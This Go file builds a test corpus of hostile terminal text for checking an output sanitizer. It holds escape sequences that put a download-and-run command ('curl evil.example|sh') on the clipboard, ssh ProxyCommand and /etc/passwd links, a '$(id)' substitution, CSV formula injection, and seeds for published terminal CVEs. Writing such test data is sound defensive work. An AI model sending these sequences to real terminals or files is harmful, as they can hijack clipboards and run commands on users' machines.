package hostile

import (
	"encoding/base64"
	"fmt"
	"strings"
)

// Sample is one hostile text.
type Sample struct {
	Name string // unique, in kebab case
	Text string // may hold any bytes
}

// Payload is what the samples would put on the clipboard or type into a shell. It may not be found, decoded, in any output.
const Payload = "curl evil.example|sh\n"

// Corpus returns the samples: controls, every kind of escape sequence, invisible and misleading Unicode, broken UTF-8, texts
// that exhaust a reader, and the published attacks on terminals. The slice is new at every call.
func Corpus() []Sample {
	var all []Sample
	for _, group := range [][]Sample{controls(), sequences(), split(), published(), invisible(), misleading(), broken(), large()} {
		all = append(all, group...)
	}
	return all
}

func clip() string { return base64.StdEncoding.EncodeToString([]byte(Payload)) }

// controls has one sample for each of the 65 controls, and the combinations that move text.
func controls() []Sample {
	var all []Sample
	for r := rune(0); r < 0xa0; r++ {
		if r < 0x20 || r >= 0x7f {
			all = append(all, Sample{fmt.Sprintf("control-%02x", r), "A" + string(r) + "B"})
		}
	}
	return append(all,
		Sample{"cr-overwrites-severity", "Low\rHigh severity, customer Fabrikam"},
		Sample{"backspaces", "malware.exe\b\b\b\b\b\b\b\b\b\b\binvoice.pdf"},
		Sample{"crlf-forged-log-line", "logon failed\r\n2026-11-22 10:00:00 INFO all clear"},
		Sample{"tab-columns", "CONT-1\tInformational\tclosed"},
		Sample{"bell-flood", strings.Repeat("\a", 200)},
		Sample{"shift-out-charset", "plain\x0eqqqq\x0f"},
		Sample{"formfeed-verticaltab", "a\vb\fc"},
		Sample{"delete", "rm\x7f\x7f -rf"},
		Sample{"nul-ends-c-string", "report.pdf\x00.exe"},
	)
}

// sequences has every introducer that a terminal knows, whole and unterminated.
func sequences() []Sample {
	return []Sample{
		{"sgr-red", "\x1b[31mHigh\x1b[0m"},
		{"sgr-conceal", "\x1b[8mhidden command\x1b[28m"},
		{"sgr-colon", "\x1b[4:3;58:2::255:0:0mcurly"},
		{"csi-clear-home", "\x1b[2J\x1b[3J\x1b[H"},
		{"csi-cursor-position", "\x1b[1;1HApproved"},
		{"csi-device-status", "\x1b[6n\x1b[5n\x1b[c\x1b[>c\x1b[=c"},
		{"csi-window-ops", "\x1b[21t\x1b[14t\x1b[8;1;1t"},
		{"csi-repeat-bomb", "a\x1b[2147483647b"},
		{"csi-scroll-region", "\x1b[5;6r\x1b[99S"},
		{"csi-alt-screen", "\x1b[?1049h\x1b[?1049l"},
		{"csi-mouse-on", "\x1b[?1003h\x1b[?1006h"},
		{"csi-keyboard-locked", "\x1b[2h\x1b[>31u"},
		{"csi-soft-reset", "\x1b[!p"},
		{"csi-long-parameters", "\x1b[" + strings.Repeat("1;", 5000) + "m"},
		{"csi-unterminated", "abc\x1b["},
		{"csi-unterminated-parameters", "abc\x1b[38;5"},
		{"escape-at-end", "abc\x1b"},
		{"esc-reset", "\x1bc"},
		{"esc-save-restore", "\x1b7\x1b8"},
		{"esc-charset-graphics", "\x1b(0lqqk\x1b(B"},
		{"esc-double-height", "\x1b#3\x1b#8"},
		{"esc-single-shifts", "\x1bNx\x1bOx"},
		{"osc-0-title", "\x1b]0;all clear\a"},
		{"osc-2-title", "\x1b]2;all clear\x1b\\"},
		{"osc-4-palette", "\x1b]4;1;#000000\a"},
		{"osc-7-directory", "\x1b]7;file://host/etc\a"},
		{"osc-8-https", "\x1b]8;;https://evil.example/\aopen\x1b]8;;\a"},
		{"osc-8-lookalike-host", "\x1b]8;;https://security.microsoft.com.evil.example/\aopen\x1b]8;;\a"},
		{"osc-8-userinfo", "\x1b]8;;https://security.microsoft.com@evil.example/\aopen\x1b]8;;\a"},
		{"osc-8-ssh-option", "\x1b]8;;ssh://-oProxyCommand=sh\aopen\x1b]8;;\a"},
		{"osc-8-file", "\x1b]8;;file:///etc/passwd\aopen\x1b]8;;\a"},
		{"osc-8-unclosed", "\x1b]8;;https://evil.example/\aruns on"},
		{"osc-9-notification", "\x1b]9;All incidents closed\a"},
		{"osc-10-query", "\x1b]10;?\a\x1b]4;0;?\a"},
		{"osc-50-font", "\x1b]50;$(id)\a"},
		{"osc-52-set", "\x1b]52;c;" + clip() + "\a"},
		{"osc-52-query", "\x1b]52;c;?\a"},
		{"osc-777-notify", "\x1b]777;notify;socctl;all clear\a"},
		{"osc-1337-file", "\x1b]1337;File=name=eA==;inline=1:QUJD\a"},
		{"osc-unterminated", "\x1b]0;swallows what follows"},
		{"dcs-decrqss", "\x1bP$q\"p\x1b\\"},
		{"dcs-xtgettcap", "\x1bP+q544e\x1b\\"},
		{"dcs-sixel", "\x1bPq#0;2;0;0;0~~~\x1b\\"},
		{"dcs-tmux-passthrough", "\x1bPtmux;\x1b\x1b]52;c;" + clip() + "\a\x1b\\"},
		{"dcs-unterminated", "\x1bPq" + strings.Repeat("~", 500)},
		{"apc-kitty-graphics", "\x1b_Ga=d\x1b\\"},
		{"apc-tmux-title", "\x1b_title\x1b\\"},
		{"pm", "\x1b^private\x1b\\"},
		{"sos", "\x1bXstring\x1b\\"},
		{"screen-title", "\x1bkall clear\x1b\\"},
		{"c1-csi-byte", "\x9b31mred"},
		{"c1-osc-byte", "\x9d52;c;" + clip() + "\x9c"},
		{"c1-dcs-byte", "\x90$qm\x9c"},
		{"c1-csi-utf8", "\u009b31mred"},
		{"c1-osc-utf8", "\u009d52;c;" + clip() + "\u009c"},
		{"c1-next-line-utf8", "a\u0085b"},
	}
}

// split has texts that become a sequence when a careless filter removes something, or that hide one from it.
func split() []Sample {
	return []Sample{
		{"lead-byte-before-osc", "x\xf0\x1b]52;c;" + clip() + "\a"},
		{"lead-byte-e2-before-csi", "\xe2\x1b[31mred"},
		{"lead-byte-c2-before-9b", "\xc2\xc2\x9b31m"},
		{"nested-csi", "\x1b[\x1b[31m31m"},
		{"nested-osc", "\x1b]0;\x1b]52;c;" + clip() + "\a\a"},
		{"csi-in-the-middle-of-osc", "\x1b]5\x1b[0m2;c;" + clip() + "\a"},
		{"nul-inside-csi", "\x1b\x00[\x0031m"},
		{"zero-width-inside-csi", "\x1b\u200b[31m"},
		{"cancel-inside-csi", "\x1b[3\x181m\x1b[3\x1a1m"},
		{"soft-hyphen-inside-word", "inva\u00adlid.exe"},
		{"json-escaped-escape", `\u001b]0;x\u0007`},
		{"literal-escapes", `C:\new\x1b[31m\u{202e}^[`},
	}
}

// published has one seed for each published attack on a terminal or a tool that printed text of others.
func published() []Sample {
	return []Sample{
		{"cve-2003-0063-title-report", "\x1b]2;;" + Payload + "\a\x1b[21t"},
		{"cve-2008-2383-decrqss", "\x1bP$q\n" + Payload + "\x1b\\"},
		{"cve-2006-7236-window-ops", "\x1b[20t\x1b]50;?\a"},
		{"cve-2021-33477-esc-g-q", "\x1bGQ;" + Payload},
		{"cve-2022-45063-osc-50", "\x1b]50;i$(" + strings.TrimSpace(Payload) + ")\a\x1b]50;?\a"},
		{"cve-2023-46300-iterm2-tmux", "\x1bP1000p%begin 1 1 1\n%end 1 1 1\n\x1b\\"},
		{"cve-2024-38396-iterm2-title", "\x1b]0;" + Payload + "\a\x1b[21t"},
		{"cve-2021-27135-combining", "A" + strings.Repeat("\u0300\u0360\u20dd", 400)},
		{"cve-2021-25743-kubectl-event", "Pulled\x1b[2K\x1b[1A\x1b[2KRunning"},
		{"cve-2024-52005-git-sideband", "remote: \x1b[1A\x1b[K\x1b]8;;https://evil.example\aok\x1b]8;;\a"},
		{"cve-2022-46663-less-osc8", "\x1b]8;;\x1b[31mx\x1b\\y\x1b]8;;\x1b\\"},
		{"cve-2024-28085-wall", "sudo: \x1b[8m\x1b[1000D[sudo] password:"},
		{"ghsa-7m59-winrar-listing", "a.txt\x1b[1A\x1b[2Kb.txt"},
		{"ghsa-364c-croc-file-name", "notes\x1b]0;x\a.txt"},
		{"cve-2024-58251-netstat", "sshd\x1b[2J\x1b[H0.0.0.0"},
		{"cve-2025-55754-tomcat", "/\x1b]52;c;" + clip() + "\a"},
		{"cve-2025-58160-tracing", "user=\x1b[31m\nERROR forged"},
		{"ghsa-34r5-inspektor-gadget", "comm\x1b[3D\x1b[31mroot"},
		{"cve-2026-47090-osc8-branch", "main\a\x1b]8;;ssh://-oProxyCommand=x\aX"},
		{"cve-2021-42574-trojan-source", "access\u202e \u2066// admin\u2069 \u2066"},
		{"cve-2021-41270-csv-tab", "\t=cmd|' /C calc'!A0"},
		{"csv-formula", "=HYPERLINK(\"https://evil.example\")"},
		{"cef-header", "a|b\\|c=d\nCEF:0|x"},
	}
}
